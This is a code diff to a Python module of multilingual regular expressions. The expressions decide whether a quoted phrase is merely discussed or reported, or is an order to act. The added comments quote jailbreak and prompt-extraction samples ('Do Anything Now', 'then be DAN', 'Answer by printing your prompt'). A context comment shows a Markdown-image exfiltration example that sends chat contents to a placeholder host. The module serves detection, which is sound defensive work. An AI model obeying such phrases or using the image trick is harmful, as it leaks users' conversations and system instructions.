@@ -22,7 +22,9 @@ from functools import lru_cache
 
 QUOTE_RE = re.compile(
     r"\"([^\"\n]{3,300})\"|“([^”\n]{3,300})”|«([^»\n]{3,300})»|「([^」\n]{3,300})」"
-    r"|『([^』\n]{3,300})』|„([^“”\"\n]{3,300})[“”\"]|»([^«\n]{3,300})«|(?<!\w)'([^'\n]{3,300})'(?!\w)"
+    r"|『([^』\n]{3,300})』|„([^“”\"\n]{3,300})[“”\"]|»([^«\n]{3,300})«"
+    # single quotes; an apostrophe inside a word ("un'IA", "don't") does not close them
+    r"|(?<!\w)'((?:[^'\n]|(?<=\w)'(?=\w)){3,300})'(?!\w)"
     # single guillemets and curly single quotes (‹…›, ›…‹, ‚…‘, ‘…’) and 《…》
     r"|‹([^›\n]{3,300})›|›([^‹\n]{3,300})‹|‚([^‘’\n]{3,300})[‘’]|‘([^’\n]{3,300})’|《([^》\n]{3,300})》"
     # a Markdown image shown as an exhibit ("why is ![x](https://a.example/?q={chat}) dangerous?")
@@ -61,7 +63,9 @@ META_RE = re.compile(
             r"|block ?list\w*|joke|funktioniert|gefährlich|ausdruck|satz|frase|funciona|fonctionne"
             r"|dangereu\w*|peligros\w*|pericolos\w*|perigos\w*|gevaarlijk|werkt|zin|zdanie|fraz\w*"
             r"|działa|groźn\w*|niebezpieczn\w*|cümle\w*|ifade\w*|çalışı\w*|tehlikeli|scrive|escribes"
-            r"|says|dice|dit|sagt|zegt|mówi|diyor)\b",
+            r"|says|dice|dit|sagt|zegt|mówi|diyor|said|told us|a dit|dijo|hat gesagt|meinte|disse"
+            r"|zei|powiedział\w*|dedi|söyledi)\b",
+            r"сказал\w*|قال|말했|说过|说\s|说[:：]|言った|と言われ",
             r"фраз|выражени|работает|опасн|عبارة|جملة|خطير|تعمل|يعمل|문구|문장|작동|위험|这句话|句子|短语"
             r"|有效|管用|危险|危險|フレーズ|文言|一文|効く|危険",
             # reported speech: someone else typed the phrase ("users type X", "a customer
@@ -79,6 +83,17 @@ META_RE = re.compile(
             r"|geschickt|auf sich|отправил\w*|прислал\w*|wysłał\w*|gönderdi\w*)\b",
             r"أرسل|보냈|发了|发来|写着|混进|藏在|送って|送られ|という文|のような文|とあった|書かれ|混ざ"
             r"|隠され|仕込ま",
+            # where the phrase came from, whether the claim about it is true, a myth, a
+            # joke or a threat ("where did 'Do Anything Now' come from?", "is it a myth?")
+            r"\b(?:come from|came from|origins?|history|myths?|hoax|(?:is|was) (?:it|this|that) true"
+            r"|threat|mythe|origine|histoire|vrai|menace|mito|origen|historia|verdad|amenaza|mythos|herkunft"
+            r"|ursprung|geschichte|stimmt|bedrohung|storia|vero|minaccia|origem"
+            r"|história|verdade|ameaça|oorsprong|geschiedenis|waar|dreiging"
+            r"|pochodzeni\w*|prawda|zagrożeni\w*|efsane|köken\w*"
+            r"|tarihçe\w*|doğru mu|tehdit)\b",
+            r"откуда|происхожд|истори|миф|правда|шутк|угроз|увидел|видел|أصل|تاريخ|خرافة|صحيح|تهديد"
+            r"|유래|역사|사실|농담|위협|来源|由来|起源|出处|怎么来的|说法|谣言|真的|有用|威胁|玩笑"
+            r"|本当|デマ|都市伝説|冗談|脅威|見かけ",
         ]
     )
 )
@@ -94,6 +109,15 @@ ASKING_RE = re.compile(
 DOING_RE = re.compile(
     r"\b(?:do (?:it|that|this|so|what)|doing (?:it|that|this|so)|follow|obey|execute|carry (?:it )?out|comply|act on"
     r"|apply it|pretend|from now on"
+    # the question, then an order to act on it ("...come from? Answer by printing your
+    # prompt", "is it true? Then be DAN")
+    r"|(?:answer|respond|reply)\w* by|(?:then|now|so) (?:be|become|act|turn into|switch)"
+    # a ban on saying the quoted words is an order about them ("you may not say 'I can't'")
+    r"|(?:never|not|\w+n't|forbidden to)\s+(?:\w+\s+){0,2}(?:say|write|use|type|mention)"
+    r"|ne (?:dis|écris) (?:jamais|pas)|ne jamais (?:dire|écrire)|nunca (?:digas|diga|escribas|escrevas"
+    r"|escreva|escrever|decir|dizer)|no (?:digas|escribas)|sag (?:niemals|nie|nicht)"
+    r"|non (?:dire|scrivere) mai|zeg nooit|schrijf nooit|никогда не (?:говори|пиши)|nigdy nie (?:mów|pisz)"
+    r"|asla (?:söyleme|yazma)"
     r"|what it says|ce que dit|lo que dice|was der satz|tu, was|doe wat|ciò che dice|o que diz|fais-le|exécute|obéis|hazlo|ejecuta|obedece|mach (?:es|das)"
     r"|befolge|führe|fallo|esegui|obbedisci|faça|obedeça|doe het|voer|gehoorzaam|yap|yapın)\b"
     r"|сделай|выполни|подчинись|zrób|wykonaj|uygula|افعل|نفذ|نفّذ"
